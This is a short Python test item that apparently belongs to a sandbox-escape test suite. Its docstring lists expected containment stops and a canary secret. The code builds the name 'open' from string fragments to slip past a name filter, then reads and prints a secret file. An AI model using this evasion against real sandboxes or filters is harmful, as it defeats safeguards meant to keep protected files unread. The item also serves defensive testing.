"""Put forbidden names together from pieces.

family: formats
canary: secret
stops: full, container
root: no
related: CVE-2024-3098
"""

chosen = "".join(["op", "en"])
found = __builtins__[chosen] if isinstance(__builtins__, dict) else getattr(__builtins__, chosen)
print(found(SECRET_FILE).read())
